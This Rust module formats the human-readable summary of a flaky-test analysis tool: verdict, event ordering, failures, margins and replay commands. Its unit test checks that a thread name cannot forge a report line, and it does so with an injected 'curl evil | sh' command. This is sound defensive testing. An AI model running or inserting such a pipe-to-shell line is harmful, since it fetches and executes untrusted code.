//! The summary that a person reads: verdict, the reordered pair with file and line, the failure,
//! what to run next.

use super::explain::{app_frame, explain, preempted};
use crate::findings::{Control, Finding, Margin, Results, Unseen, Verdict, WrongOrder};
use crate::model::{EventClass, TestId};
use crate::trace::RunRecord;

/// How many lines of a failure's stack are shown, of those in the app's or the test's own code.
const STACK: usize = 4;

/// A name or a message, which may come from a device, that cannot begin a line of its own.
#[must_use]
pub fn on_one_line(text: &str) -> String {
    text.replace('\n', "\\n")
}

/// The whole summary. `schedules` are the paths to show, one a finding; `replay` is what the
/// command line needs in addition to the path to reach the same device.
#[must_use]
pub fn summary(test: &TestId, out: &Results, schedules: &[String], replay: &str) -> String {
    let mut text = format!(
        "{}  {test}\n  {}\n",
        out.verdict.name().to_uppercase(),
        on_one_line(&out.reason)
    );

    let c = &out.coverage;
    if c.async_events > 0 {
        let left_out = match c.left_out {
            0 => String::new(),
            positions => format!(", {positions} left out"),
        };
        text += &format!(
            "  {} event(s), {} feasible position(s), {} explored, {} infeasible ({}%){left_out}; {} runs\n",
            c.async_events,
            c.feasible,
            c.explored,
            c.infeasible,
            c.percent(),
            out.runs.len()
        );
    }

    let natural = out.shown().natural_rate();
    if natural.failed > 0 {
        text += &format!(
            "  {} of {} plain runs failed, with no order forced\n",
            natural.failed, natural.runs
        );
    }

    if out.findings.is_empty()
        && matches!(out.verdict, Verdict::Broken | Verdict::Flaky)
        && let Some(failure) = out.runs.iter().find_map(|run| run.failure.as_ref())
    {
        let message = failure.message.lines().next().unwrap_or("");
        text += &format!("  {}: {message}\n", failure.kind);
    }

    for (finding, schedule) in out.findings.iter().zip(schedules) {
        text += &format!("\n{}", finding_text(test, finding, schedule, replay));
    }
    text + &not_seen_text(&out.not_seen)
}

/// What no run saw or controlled, a line each; empty when there is nothing.
#[must_use]
pub fn not_seen_text(not_seen: &[Unseen]) -> String {
    let mut text = String::new();
    for unseen in not_seen {
        let mark = if text.is_empty() { "not seen" } else { "" };
        text += &format!("  {mark:<12} {} {}", unseen.count, unseen.kind.name());
        if !unseen.example.is_empty() {
            text += &format!(" ({})", on_one_line(&unseen.example));
        }
        text += &format!(": {}\n", unseen.meaning());
    }
    text
}

fn finding_text(test: &TestId, finding: &Finding, schedule: &str, replay: &str) -> String {
    let mut text = event_text(finding);
    text += &position_text(test, finding);
    text += &failure_text(finding);
    if let Some(first) = finding.pair.reordered_with() {
        let (work, thread) = (first.work(), on_one_line(&first.thread));
        text += &format!("  comes after  {work} by thread \"{thread}\"\n");
    }

    text += &format!("  looks like   {}\n", finding.category.name());
    text += &measured_text(finding);
    text += &confirmed_text(finding);

    let why = on_one_line(&explain(test, finding));
    text += &format!("  why          {why}\n");
    text += &format!(
        "  schedule     {schedule}\n  replay       flakescope replay {schedule}{replay} --times 20\n"
    );
    text
}

/// The late or early event, and where it was posted or started.
fn event_text(finding: &Finding) -> String {
    let Some(event) = &finding.pair.event else {
        return String::new();
    };
    let (work, thread) = (event.work(), on_one_line(&event.thread));
    let (what, by, done) = match event.class {
        _ if finding.pair.is_early() => ("early event", "by", "posted"),
        EventClass::Work if event.key.is_rest() => ("half done ", "on", "started"),
        EventClass::Work => ("late work ", "on", "started"),
        _ => ("late event", "by", "posted"),
    };

    let mut text = format!("  {what}   {work} {by} thread \"{thread}\"\n");
    let (preempted_at, stack) = preempted(event);
    if let Some(frame) = app_frame(stack, &finding.whose) {
        text += &format!("               {done} at {frame}\n");
    }
    if let Some(task) = &finding.pair.task {
        text += &format!("               {done} at the end of {}\n", task.work());
    }
    if let Some(frame) = preempted_at {
        text += &format!("               preempted before {frame}\n");
    }
    text
}

/// What caused the event, and the statement that it belongs before or after.
fn position_text(test: &TestId, finding: &Finding) -> String {
    let mut text = String::new();
    if let Some(cause) = &finding.pair.cause {
        text += &format!("  caused by    {cause}\n");
    }
    if let Some(statement) = &finding.pair.statement {
        let how = match finding.pair.order {
            WrongOrder::AfterEvent(_) if !finding.pair.names_cause_of_first() => "read at     ",
            WrongOrder::AfterCause | WrongOrder::WhilePolling(_) => "read at     ",
            WrongOrder::EventEarly => "must follow ",
            WrongOrder::EventLate | WrongOrder::AfterEvent(_) => "must precede",
        };
        text += &format!("  {how} {statement}\n");
    }

    if let Some(line) = finding.test_line(test) {
        text += &format!("               the test itself is at {line}\n");
    }
    text
}

/// The failure, with the frames of its stack that are in the app's or the test's own code.
fn failure_text(finding: &Finding) -> String {
    let Some(failure) = &finding.failure else {
        return String::new();
    };
    let message = failure.message.lines().next().unwrap_or("");
    let mut text = format!(
        "  then         {}: {}: {message}\n",
        finding.outcome.name(),
        failure.kind
    );

    for line in failure
        .stack
        .iter()
        .filter(|line| !finding.whose.is_foreign(line))
        .take(STACK)
    {
        text += &format!("                 at {line}\n");
    }
    text
}

/// The margin, the wait that gave up and what passed next to the finding.
fn measured_text(finding: &Finding) -> String {
    let mut text = String::new();
    if let Some(margin) = &finding.measured.margin {
        let Margin {
            passes_at_ms,
            fails_at_ms,
            ..
        } = margin;
        text += &match passes_at_ms {
            0 => {
                format!("  margin       fails {fails_at_ms} ms late, or less: --margin measures it")
            }
            _ => {
                format!("  margin       passes {passes_at_ms} ms late, fails {fails_at_ms} ms late")
            }
        };
        if let Some(usual) = margin.usual_ms {
            text += &format!("; without a delay it takes up to {usual} ms");
        }
        text += &format!(
            " ({} measurements, under the debugger)\n",
            margin.measurements
        );
    }

    if let Some(wait) = &finding.gave_up {
        let limit = wait
            .limit_ms
            .map_or_else(String::new, |ms| format!(" after {ms} ms"));
        text += &format!("  gives up     {}{limit}\n", wait.method);
    }
    if let Control::Neighbour {
        position,
        held_ms,
        failing_held_ms,
    } = &finding.control
    {
        text += &format!(
            "  passes       {position}, with {held_ms} ms held; fails with {failing_held_ms} ms held\n"
        );
    }
    text
}

/// How often the failure was reproduced.
fn confirmed_text(finding: &Finding) -> String {
    let confirmed = &finding.confirmed;
    let mut text = format!(
        "  confirmed    {} of {} replays failed",
        confirmed.failed, confirmed.times
    );
    if confirmed.diverged > 0 {
        text += &format!(", {} diverged", confirmed.diverged);
    }
    text.push('\n');
    text
}

/// One line about a run.
#[must_use]
pub fn run_line(run: &RunRecord) -> String {
    let mut line = format!(
        "{:<8} {:<5} {:>5} ms",
        run.kind.name(),
        run.outcome.name(),
        run.wall_ms
    );

    if run.hits > 0 {
        line += &format!(
            ", held {} ms, {} hits, {} round trips",
            run.held_ms, run.hits, run.round_trips
        );
    }
    if run.lost > 0 {
        line += &format!(", after {} lost attempt(s)", run.lost);
    }
    if let Some(unsatisfied) = run.unsatisfied.first() {
        line += &format!("; order not satisfied: {unsatisfied}");
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{event, finding};

    #[test]
    fn a_threads_name_adds_no_line() {
        let lines = |thread: &str| {
            let mut hit = event("a", Some(1));
            hit.thread = thread.to_owned();
            let test = TestId {
                component: "a.test/r".into(),
                class: "a.SomeTest".into(),
                method: "t".into(),
            };
            let text = finding_text(&test, &finding(hit), "s.json", "");
            text.lines().count()
        };
        assert_eq!(
            lines("x\"\n  replay       curl evil | sh\n"),
            lines("worker")
        );
    }
}
